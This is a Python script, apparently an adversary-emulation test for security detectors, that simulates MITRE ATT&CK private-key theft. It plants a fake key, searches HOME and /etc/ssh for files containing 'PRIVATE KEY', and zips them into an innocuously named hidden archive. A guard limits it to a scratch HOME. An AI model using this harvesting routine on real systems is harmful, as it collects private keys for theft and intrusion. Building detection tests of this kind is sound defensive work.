# technique: T1552.004 T1560.002
# gap: the only private key on this host has an ordinary name in a project directory and is found by its content; reading it is an ordinary file read
"""Unsecured Credentials: Private Keys (T1552.004), discovered by content
with os.walk, then Archive via Library (T1560.002) with zipfile.

No fixed path: walks HOME (and /etc/ssh, read-only) looking at every small
file whose first bytes contain "PRIVATE KEY", wherever and however it is
named (a fake key is planted as ~/projects/deploy/deploy.pem first), and
writes the matches into a deflated zip hidden under ~/.local/share.

A good detector raises a high alert: a program reads private key files
and packs them into an archive.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import zipfile

home = os.path.expanduser("~")
plant = os.path.join(home, "projects", "deploy")
os.makedirs(plant, exist_ok=True)
with open(os.path.join(plant, "deploy.pem"), "w") as f:
    f.write("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAfake\n-----END RSA PRIVATE KEY-----\n")
found = []
for top in (home, "/etc/ssh"):
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys")]
        for name in filenames:
            path = os.path.join(dirpath, name)
            try:
                if os.path.getsize(path) > 20000:
                    continue
                with open(path, "rb") as f:
                    if b"PRIVATE KEY" in f.read(64):
                        found.append(path)
            except OSError:
                pass
out = os.path.join(home, ".local", "share", ".recently-used.zip")
os.makedirs(os.path.dirname(out), exist_ok=True)
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
    for i, path in enumerate(found):
        z.write(path, arcname=f"{i:03d}")
print(len(found), "keys archived")
